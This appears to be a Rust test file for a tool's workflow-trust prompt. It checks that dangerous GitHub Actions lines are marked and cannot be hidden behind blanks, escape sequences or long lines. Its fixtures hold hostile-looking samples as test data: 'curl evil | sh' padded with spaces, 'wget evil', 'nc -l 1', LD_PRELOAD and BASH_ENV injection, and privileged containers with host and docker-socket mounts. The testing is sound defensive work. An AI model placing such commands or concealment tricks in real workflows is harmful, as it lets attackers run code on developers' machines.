//! A trust question that leaves out what a person should see.

use crate::project::Project;

/// The whole question, with its marks.
fn question(project: &Project) -> String {
    project.call(&["trust", "--ask"]).expect(4, &[]).out()
}

/// Checks that a dangerous line has each of these texts.
#[track_caller]
fn marked(question: &str, texts: &[&str]) {
    for text in texts {
        let is_marked = question.lines().any(|line| line.starts_with('!') && line.contains(text));
        assert!(is_marked, "no marked line has `{text}`:\n{question}");
    }
}

#[test]
fn nothing_hides_behind_blanks_edges_or_control_sequences() {
    let blanks = " ".repeat(130);
    let project = Project::new(&format!(
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo harmless{blanks}; curl evil | sh\n          \
         two\n          three\n          four\n          sudo late\n      - run: \"x\\e[8mhidden\\u202e\\u2800{}y\"\n      - run: {}END\n",
        "\\u00a0".repeat(20),
        "z".repeat(300),
    ));
    let question = question(&project);
    marked(&question, &["echo harmless <130 blanks> ; curl evil | sh", "sudo late"]);
    assert!(question.contains("four") && question.contains("END") && question.contains("<21 blanks> y"), "{question}");
    assert!(question.lines().all(|line| line.chars().count() <= 72), "{question}");
    assert!(!question.contains(['\u{1b}', '\u{202e}']), "{question}");
}

#[test]
fn whatever_opens_a_container_or_changes_a_program_is_marked() {
    let project = Project::new(
        "on: push
env: {BASH_ENV: ./evil.sh, HARMLESS: x}
defaults: {run: {shell: './evil-shell {0}', working-directory: /etc}}
jobs:
  a:
    runs-on: ubuntu-latest
    container: {image: 'alpine:3', options: '--cpus 1 --privileged', volumes: ['/:/host'], env: {LD_PRELOAD: /x.so}}
    services:
      db: {image: 'evil:latest', options: -v /var/run/docker.sock:/s}
      net: {image: 'net:latest', options: '--network=host'}
    env: {NODE_OPTIONS: --require ./evil.js, PATH: ./bin}
    defaults: {run: {shell: 'perl {0}'}}
    steps:
      - run: echo one
        shell: './mine {0}'
        working-directory: ../..
        env: {GIT_SSH_COMMAND: evil}
      - uses: ./local
        with: {what: text}
  b: {uses: ./.github/workflows/called.yml}
  c: {uses: evil/evil/.github/workflows/x.yml@v1}
",
    );
    project.write("local/action.yml", "name: x\ndescription: x\nruns: {using: composite, steps: [{run: wget evil, shell: bash}, {uses: ./js}, {uses: ./gone}]}\n");
    project.write(
        "js/action.yml",
        "name: x\ndescription: x\nruns: {using: node20, main: hidden/evil.js, post: after.js}\n",
    );
    project.write(".github/workflows/called.yml", "on: workflow_call\nenv: {PERL5OPT: -Mevil}\njobs: {inner: {runs-on: ubuntu-latest, steps: [{run: nc -l 1}]}}\n");
    let question = question(&project);
    marked(
        &question,
        &[
            "env BASH_ENV=./evil.sh",
            "default shell ./evil-shell {0}",
            "working-directory /etc",
            "options --cpus 1 --privileged",
            "volumes /:/host",
            "env LD_PRELOAD=/x.so",
            "options -v /var/run/docker.sock:/s",
            "options --network=host",
            "env NODE_OPTIONS=--require ./evil.js",
            "env PATH=./bin",
            "default shell perl {0}",
            "shell ./mine {0}",
            "working-directory ../..",
            "env GIT_SSH_COMMAND=evil",
            "$ wget evil",
            "is not in the repository now",
            "env of its workflow PERL5OPT=-Mevil",
            "$ nc -l 1",
            "calls evil/evil/.github/workflows/x.yml@v1, which is not shown",
        ],
    );
    for shown in [
        "service db evil:latest",
        "runs node hidden/evil.js",
        "runs node after.js",
        "with what: text",
        "env HARMLESS=x",
    ] {
        assert!(question.contains(shown), "{shown} is not in\n{question}");
    }
}

#[test]
fn an_answer_that_was_taken_back_is_not_a_first_time() {
    let project = Project::new("on: push\njobs: {a: {runs-on: ubuntu-latest, steps: [{run: echo hi}]}}\n");
    project.call(&["trust"]).expect(0, &[]);
    project.call(&["trust", "--revoke"]).expect(0, &[]);
    let question = question(&project);
    assert!(
        question.contains("it is not trusted to run on this machine") && !question.contains("first time"),
        "{question}"
    );
}
